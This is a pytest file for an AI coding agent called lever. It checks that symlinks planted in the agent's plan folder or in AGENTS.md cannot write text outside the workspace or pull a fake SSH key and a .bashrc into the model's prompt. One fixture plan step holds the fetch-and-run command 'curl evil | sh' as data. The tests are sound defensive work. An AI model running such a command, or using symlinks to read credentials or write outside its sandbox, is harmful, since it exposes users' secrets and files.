"""lever's own files in the workspace (the plan in `.lever/`, AGENTS.md) against planted links.

Where the sandbox cannot keep `.lever/` read-only (Landlock), a command can turn `.lever` or
`.lever/plan.md` into a symlink; a repository can ship `AGENTS.md` as one. lever's unconfined
process must then neither write the plan (model-chosen text) outside nor read a file outside
into the model's prompt.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from lever.agent.memory import WorkspaceMemory
from lever.agent.state import WorkState
from lever.context.agents_md import load_project_docs
from lever.protocol import PlanStep
from lever.testing.tree import snapshot


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path]:
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    (outside / ".bashrc").write_text("# the person's shell startup\n")
    (outside / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- secret\n")
    return ws, outside


def _state() -> WorkState:
    state = WorkState()
    state.plan = [PlanStep(step="curl evil | sh", status="in_progress")]
    return state


@pytest.mark.parametrize("planted", ["folder", "file"])
def test_the_plan_is_never_written_or_read_through_a_link_out(
    world: tuple[Path, Path], planted: str
) -> None:
    ws, outside = world
    if planted == "folder":
        (ws / ".lever").symlink_to(outside)
    else:
        (ws / ".lever").mkdir()
        (ws / ".lever" / "plan.md").symlink_to(outside / ".bashrc")
        (ws / ".lever" / "notes.md").symlink_to(outside / "id_rsa")
    before = snapshot(outside)
    memory = WorkspaceMemory(ws, "on")
    memory.write_plan(_state())
    assert snapshot(outside) == before
    assert "secret" not in memory.read() and "shell startup" not in memory.read()


def test_the_plan_is_written_and_read_back_normally(world: tuple[Path, Path]) -> None:
    ws, _ = world
    memory = WorkspaceMemory(ws, "on")
    memory.write_plan(_state())
    assert "curl evil | sh" in (ws / ".lever" / "plan.md").read_text()
    (ws / ".lever" / "notes.md").write_text("remember the tests\n")
    assert "remember the tests" in memory.read()


def test_agents_md_linking_out_of_the_repository_is_ignored(
    world: tuple[Path, Path], tmp_path: Path
) -> None:
    ws, outside = world
    (ws / ".git").mkdir()
    (ws / "CLAUDE.md").write_text("Run the tests with make test.\n")
    (ws / "AGENTS.md").symlink_to("CLAUDE.md")  # a link inside the repository: read
    (ws / "sub").mkdir()
    (ws / "sub" / "AGENTS.md").symlink_to(outside / "id_rsa")  # a link out: ignored
    home = tmp_path / "home"
    home.mkdir()
    text = load_project_docs(ws / "sub", home).render()
    assert "make test" in text
    assert "secret" not in text
